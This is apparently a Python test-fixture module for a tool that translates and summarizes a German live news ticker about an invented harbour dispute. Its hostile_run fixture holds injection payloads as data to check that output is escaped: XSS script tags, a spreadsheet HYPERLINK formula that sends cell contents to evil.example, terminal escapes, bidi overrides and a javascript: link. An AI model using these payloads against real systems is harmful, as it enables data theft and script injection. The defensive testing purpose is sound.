"""Runs for the tests of the reports: an invented ticker about a harbour dispute, and runs of other shapes and sizes."""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from summarize.models import (
    AlignedPair,
    Brief,
    Entry,
    Furniture,
    Point,
    Position,
    PromptRef,
    Range,
    RunInfo,
    RunResult,
    SourceRef,
    Span,
    Speaker,
    SpeakerKind,
    Statement,
    Statements,
    StatementType,
    Ticker,
    TimelineItem,
    Translation,
    Translations,
    Usage,
)

ZONE = ZoneInfo("Europe/Berlin")
DAY = datetime(2031, 4, 9, tzinfo=ZONE)


@dataclass(frozen=True)
class Said:
    """What an entry holds of a statement; ``words`` are looked up in its body, one span for each."""

    words: tuple[str, ...]
    english: str
    speaker: str | None
    kind: StatementType = "direct"
    role: str | None = None
    channel: str | None = None
    speaker_kind: SpeakerKind | None = "person"
    reported_by: tuple[str, ...] = ()
    reasons: tuple[str, ...] = ()
    inside_previous: bool = False


@dataclass(frozen=True)
class Told:
    """An entry as the fixtures write it; ``quotes`` pairs German words with the English words they became."""

    clock: str | None
    german: str
    english: str | None
    heading: str | None = None
    heading_en: str | None = None
    said: tuple[Said, ...] = ()
    quotes: tuple[tuple[str, str], ...] = ()
    reasons: tuple[str, ...] = ()


HARBOUR = (
    Told(
        "14.20",
        "Die Reederei Tjarksen Linie räumt den Südkai. „Wir fahren morgen um sechs, nicht eine Minute später“, sagte "
        "Betriebsleiterin Wiebke Lorm dem Sender Küstenfunk. Man habe genug gewartet.",
        "The Tjarksen Line shipping company is clearing the south quay. “We sail tomorrow at six, not a minute later,” "
        "operations manager Wiebke Lorm told the broadcaster Küstenfunk. They had waited long enough, she said.",
        heading="Reederei gibt den Kai frei",
        heading_en="Shipping company clears the quay",
        said=(
            Said(
                ("Wir fahren morgen um sechs, nicht eine Minute später",),
                "We sail tomorrow at six, not a minute later",
                "Wiebke Lorm",
                role="Betriebsleiterin",
                channel="Küstenfunk",
            ),
            Said(("Man habe genug gewartet.",), "They had waited long enough.", "Wiebke Lorm", kind="indirect_free"),
        ),
        quotes=(
            (
                "Wir fahren morgen um sechs, nicht eine Minute später",
                "We sail tomorrow at six, not a minute later,",
            ),
        ),
    ),
    Told(
        "13.45",
        "Bürgermeisterin Lene Harmsdorf spricht von einem „Durchbruch“, der „ohne Sieger“ zustande gekommen sei. "
        "Die Stadt werde die Liegegebühren um 12,5 Prozent senken.",
        "Mayor Lene Harmsdorf speaks of a “breakthrough” that had come about “without winners”. The city would cut the "
        "mooring fees by 12.5 per cent, she said.",
        said=(
            Said(
                ("Durchbruch", "ohne Sieger"),
                "a “breakthrough” … “without winners”",
                "Lene Harmsdorf",
                kind="direct_partial",
                role="Bürgermeisterin",
            ),
            Said(
                ("Die Stadt werde die Liegegebühren um 12,5 Prozent senken.",),
                "The city would cut the mooring fees by 12.5 per cent.",
                "Lene Harmsdorf",
                kind="indirect_free",
            ),
        ),
        quotes=(("Durchbruch", "breakthrough"), ("ohne Sieger", "without winners")),
    ),
    Told(
        "12.05",
        "Nach Angaben des Hafenamts liegen 38 Schiffe fest. Sprecher Ocke Brandt schrieb auf Telegram, es gebe "
        "„keinen Grund zur Panik“. Ob die Schleuse noch am Abend öffnet, ließ er offen.",
        "According to the port authority, 38 ships are stuck. Spokesman Ocke Brandt wrote on Telegram that there was "
        "“no reason to panic”. He left open whether the lock would open that evening.",
        heading="Hafenamt zählt 38 Schiffe",
        heading_en="Port authority counts 38 ships",
        said=(
            Said(
                ("liegen 38 Schiffe fest",),
                "38 ships are stuck",
                "Hafenamt",
                kind="reported",
                speaker_kind="institution",
            ),
            Said(
                ("es gebe „keinen Grund zur Panik“",),
                "there was “no reason to panic”",
                "Ocke Brandt",
                kind="indirect",
                role="Sprecher",
                channel="Telegram",
            ),
            Said(
                ("Ob die Schleuse noch am Abend öffnet",),
                "whether the lock would open that evening",
                "Ocke Brandt",
                kind="question",
                reasons=("the speaker is named by a pronoun with two candidates",),
            ),
        ),
        quotes=(("keinen Grund zur Panik", "no reason to panic"),),
    ),
    Told(
        "10.30",
        "Gewerkschafter Hinnerk Voss widerspricht der Reederei: „Von Räumung war nie die Rede.“ Die Zeitung "
        "Nordblatt berichtet, Lorm habe intern mit Entlassungen gedroht.",
        "Union leader Hinnerk Voss contradicts the shipping company: “There was never any talk of clearing out.” The "
        "newspaper Nordblatt reports that Lorm threatened dismissals internally.",
        said=(
            Said(
                ("Von Räumung war nie die Rede.",),
                "There was never any talk of clearing out.",
                "Hinnerk Voss",
                role="Gewerkschafter",
            ),
            Said(
                ("Lorm habe intern mit Entlassungen gedroht",),
                "Lorm threatened dismissals internally",
                "Nordblatt",
                kind="indirect",
                speaker_kind="document",
            ),
            Said(
                ("mit Entlassungen gedroht",),
                "threatened dismissals",
                "Wiebke Lorm",
                kind="reported",
                reported_by=("Nordblatt",),
                inside_previous=True,
            ),
        ),
        quotes=(("Von Räumung war nie die Rede.", "There was never any talk of clearing out."),),
        reasons=("a claim lost its “reportedly”: Lorm habe intern mit Entlassungen gedroht",),
    ),
    Told(
        "08.10",
        "Der Südkai ist seit dem Morgen gesperrt. Aus Behördenkreisen heißt es, "
        "die Küstenwache halte zwei Boote bereit.",
        None,
        said=(
            Said(
                ("die Küstenwache halte zwei Boote bereit",),
                "the coast guard has two boats standing by",
                "Behördenkreise",
                kind="indirect",
                speaker_kind="anonymous",
            ),
        ),
        reasons=("the endpoint answered three times with an empty text",),
    ),
)


@dataclass
class Builder:
    """Puts a source text together from the fixtures' entries and keeps the spans that arise on the way."""

    origin: str = "hafen.txt"
    source: str = ""
    entries: list[Entry] = field(default_factory=list)
    furniture: list[Furniture] = field(default_factory=list)
    translations: list[Translation] = field(default_factory=list)
    statements: list[Statement] = field(default_factory=list)

    def furnish(self, kind: str, text: str, entry_id: str | None = None) -> Furniture:
        piece = Furniture(
            kind=kind, start=len(self.source), end=len(self.source) + len(text), text=text, entry_id=entry_id
        )
        self.furniture.append(piece)
        self.source += text
        return piece

    def add(self, told: Told, day: datetime) -> None:
        entry_id = f"e{len(self.entries) + 1:03d}"
        if told.heading:
            heading = self.furnish("heading", told.heading, entry_id)
            self.furnish("space", "\n", entry_id)
        if told.clock:
            self.furnish("stamp", f"Update, {told.clock} Uhr: ", entry_id)
        start = len(self.source)
        self.source += told.german
        clock = told.clock.replace(".", ":") if told.clock else None
        self.entries.append(
            Entry(
                id=entry_id,
                start=start,
                end=len(self.source),
                text=told.german,
                clock=clock,
                time=day.replace(hour=int(clock[:2]), minute=int(clock[3:])) if clock else None,
                time_basis="flag" if clock else "none",
                heading=told.heading,
                heading_span=Range(start=heading.start, end=heading.end) if told.heading else None,
            )
        )
        self.translations.append(self._translation(told, self.entries[-1]))
        for said in told.said:
            self._state(said, self.entries[-1])
        self.furnish("space", "\n")

    def _translation(self, told: Told, entry: Entry) -> Translation:
        pairs = []
        for german, english in told.quotes:
            de, en = entry.start + entry.text.index(german), (told.english or "").index(english)
            pairs.append(
                AlignedPair(de=Range(start=de, end=de + len(german)), en=Range(start=en, end=en + len(english)))
            )
        return Translation(
            id=entry.id,
            clock=entry.clock,
            heading_de=told.heading,
            heading_en=told.heading_en,
            text_de=entry.content,
            text_en=told.english,
            quotes=tuple(pairs),
            status="failed" if told.english is None else "flagged" if told.reasons else "verified",
            reasons=told.reasons,
        )

    def _state(self, said: Said, entry: Entry) -> None:
        spans = []
        for words in said.words:
            start = entry.start + entry.text.index(words)
            spans.append(Span.cut(self.source, start, start + len(words)))
        self.statements.append(
            Statement(
                id=f"s{len(self.statements) + 1:03d}",
                entry_id=entry.id,
                clock=entry.clock,
                type=said.kind,
                content=tuple(spans),
                text_en=said.english,
                speaker=Speaker(
                    name=said.speaker, resolution="explicit" if said.speaker else "none", kind=said.speaker_kind
                ),
                role=said.role,
                channel=said.channel,
                reported_by=said.reported_by,
                parent_id=self.statements[-1].id if said.inside_previous else None,
                status="flagged" if said.reasons else "verified",
                reasons=said.reasons,
                found_by=("rules", "model") if said.channel else ("rules",),
            )
        )

    def ref(self) -> SourceRef:
        digest = hashlib.sha256(self.source.encode("utf-8", "surrogatepass")).hexdigest()
        return SourceRef(origin=self.origin, sha256=digest, chars=len(self.source))

    def result(
        self, brief: Brief, title: str | None, lead: str | None = None, english: tuple[str, str] | None = None
    ) -> RunResult:
        ref = self.ref()
        return RunResult(
            ticker=Ticker(
                source=ref,
                title=title,
                lead=lead,
                entries=tuple(self.entries),
                furniture=tuple(self.furniture),
                warnings=("the day of 2 entries is not known for certain",),
            ),
            translations=Translations(
                source=ref,
                title_en=english[0] if english else None,
                lead_en=english[1] if english else None,
                entries=tuple(self.translations),
            ),
            statements=Statements(source=ref, statements=tuple(self.statements)),
            brief=brief.model_copy(update={"source": ref}),
            run=RunInfo(
                id="run-20310409-1430",
                started=DAY.replace(hour=14, minute=30),
                finished=DAY.replace(hour=14, minute=31, second=12),
                state="done",
                program_version="0.0.test",
                source=ref,
                endpoint="http://127.0.0.1:8080/v1",
                model="example-model",
                profile="small",
                prompts=(PromptRef(task="translate", version=1, sha256="ab" * 32),),
                parameters={"temperature": 0, "seed": 7},
                usage=Usage(
                    calls=9, failed_calls=1, reused=2, input_tokens=12_345, output_tokens=2_345, cost_usd=0.0123
                ),
                failures=("e005: the endpoint answered three times with an empty text",),
            ),
        )


NO_SOURCE = SourceRef(origin="", sha256="", chars=0)

HARBOUR_BRIEF = Brief(
    source=NO_SOURCE,
    method="model",
    headline="Shipping company clears the south quay after a deal on mooring fees",
    headline_cites=("e001", "e002"),
    bottom_line="The Tjarksen Line says it will sail at six tomorrow; "
    "the city says it will cut mooring fees by 12.5 per cent.",
    bottom_line_cites=("e001", "e002"),
    key_points=(
        Point(text="The company said it would sail “tomorrow at six” [translated].", cites=("e001",)),
        Point(text="The port authority counted 38 ships stuck at midday.", cites=("e003",)),
        Point(
            text="Police arrested nobody.",
            cites=("e005",),
            status="flagged",
            reasons=("the cited entry does not mention the police",),
        ),
    ),
    positions=(
        Position(actor="Lene Harmsdorf", stance="calls the deal a breakthrough without winners", cites=("e002",)),
        Position(
            actor="Hinnerk Voss",
            stance="denies that clearing the quay was ever discussed; before, he had called it settled",
            changed=True,
            cites=("e004",),
        ),
    ),
    contradictions=(
        Point(
            text="The company speaks of an agreement, the union leader denies there was one.", cites=("e001", "e004")
        ),
    ),
    confirmed=(Point(text="The port authority confirms that 38 ships are stuck.", cites=("e003",)),),
    timeline=(
        TimelineItem(clock="08:10", text="The south quay is closed.", cites=("e005",)),
        TimelineItem(clock="14:20", text="The company clears the quay.", cites=("e001",)),
    ),
    open_questions=(Point(text="Will the lock open this evening?", cites=("e003",)),),
)


def harbour_run() -> RunResult:
    """Five entries with every kind of statement, a flagged and a failed translation, and a flagged point."""
    builder = Builder()
    title, lead = "Streit um den Südkai: Alle Nachrichten im Ticker", "Seit zwei Tagen kommt kein Schiff hinaus."
    for kind, text in (("title", title), ("lead", lead)):
        builder.furnish(kind, text)
        builder.furnish("space", "\n")
    for told in HARBOUR:
        builder.add(told, DAY)
    english = ("Dispute over the south quay: all the news in the ticker", "For two days no ship has got out.")
    return builder.result(HARBOUR_BRIEF, title, lead, english)


def _plain_brief(entry_id: str) -> Brief:
    return Brief(
        source=NO_SOURCE,
        method="extractive",
        headline="A quiet day",
        headline_cites=(entry_id,),
        bottom_line="Nothing much was said.",
        bottom_line_cites=(entry_id,),
        key_points=(Point(text="The lock stayed shut.", cites=(entry_id,)),),
    )


def one_entry_run() -> RunResult:
    builder = Builder()
    builder.add(HARBOUR[1], DAY)
    return builder.result(_plain_brief("e001"), title=None)


def silent_run() -> RunResult:
    """Three entries in which nobody is quoted, without any time."""
    builder = Builder()
    for number in ("eins", "zwei", "drei"):
        builder.add(Told(None, f"Schleuse {number} bleibt zu.", f"Lock {number} stays shut."), DAY)
    return builder.result(_plain_brief("e001"), title="Schleusen")


WAITING = "Am Kai warten an diesem Tag Hunderte auf die Fähren, manche schon seit dem frühen Morgen mit Decken und Tee."
WAITING_EN = (
    "Hundreds are waiting on the quay for the ferries that day, some since early morning with blankets and tea."
)


def long_run(count: int = 500) -> RunResult:
    """``count`` entries, newest first, ten minutes apart: the harbour's entries again and again over several days, each
    as long as entries in newspapers are on average, 600 characters."""
    builder = Builder()
    newest = DAY.replace(hour=23, minute=50)
    for number in range(count):
        at = newest - timedelta(minutes=10 * number)
        told = HARBOUR[number % len(HARBOUR)]
        german = " ".join((told.german, f"Meldung Nr{number}.", *[WAITING] * 4))
        english = " ".join((told.english, *[WAITING_EN] * 4)) if told.english else None
        builder.add(replace(told, clock=at.strftime("%H.%M"), german=german, english=english), at)
    brief = HARBOUR_BRIEF.model_copy(
        update={"key_points": tuple(Point(text=f"Point {n}.", cites=(f"e{n * 9 + 1:03d}",)) for n in range(40))}
    )
    return builder.result(brief, title="Fünf Tage am Südkai")


SCRIPT = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
OVERRIDE = "Konto \u202e1234\u202c und \u2066isoliert"
ESCAPES = "rot \x1b[31mrot\x1b[0m \x1b]0;Titel\x07 \x9b2J \x00 Ende\x85"
MARKDOWN = (
    "[klick](javascript:alert(1)) `code` **fett** | Zelle | </td> {{ 7*7 }} {% raw %} ![x](http://evil.example/x.png)"
)
LONG_NAME = "Freiherr " + "Maximilianhubertus" * 17


def hostile_run() -> RunResult:
    """Every field that holds others' text holds something that must not take effect."""
    builder = Builder(origin="<b>\x1b[31mdatei.txt")
    for number, text in enumerate((SCRIPT, FORMULA, OVERRIDE, ESCAPES, MARKDOWN)):
        words = f"{text} sagte wer."
        builder.add(
            Told(
                f"1{number}.00",
                words,
                words,
                heading=text,
                heading_en=text,
                said=(
                    Said(
                        (text,),
                        text,
                        LONG_NAME if number == 1 else text,
                        role=FORMULA,
                        channel=text,
                        reported_by=(SCRIPT,),
                        reasons=(text,),
                    ),
                ),
                quotes=((text, text),),
                reasons=(SCRIPT,),
            ),
            DAY,
        )
    brief = Brief(
        source=NO_SOURCE,
        method="model",
        headline=SCRIPT,
        bottom_line=ESCAPES,
        bottom_line_cites=("e001", "no-such-entry"),
        key_points=(Point(text=MARKDOWN, cites=("e005", '"><script>alert(2)</script>')),),
        positions=(Position(actor=LONG_NAME, stance=FORMULA, cites=("e002",)),),
        timeline=(TimelineItem(clock="10:00", text=OVERRIDE, cites=("e003",)),),
        open_questions=(Point(text="</style></script><script>alert(3)</script>", cites=()),),
        reasons=(SCRIPT,),
        status="flagged",
    )
    return builder.result(brief, title=SCRIPT, lead=OVERRIDE)
